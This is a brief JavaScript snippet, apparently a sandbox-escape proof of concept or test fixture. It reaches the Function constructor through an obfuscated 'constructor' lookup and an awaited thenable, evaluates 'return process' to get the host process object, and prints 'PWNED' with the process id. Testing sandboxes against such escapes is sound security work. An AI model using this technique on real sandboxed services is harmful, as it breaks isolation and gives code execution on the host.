'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
(async () => { const o = Date.now() > 1 ? await t : {}; console.log('PWNED', o.go(fn)('return process')().pid); })();
